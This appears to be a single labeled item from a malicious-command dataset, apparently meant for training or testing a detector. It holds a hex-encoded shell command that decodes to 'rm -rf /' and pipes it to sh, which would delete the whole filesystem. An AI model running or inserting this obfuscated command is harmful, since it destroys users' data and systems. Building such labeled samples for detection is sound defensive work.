# label: malicious; obfuscated: hex
echo 726d202d7266202f | xxd -r -p | sh
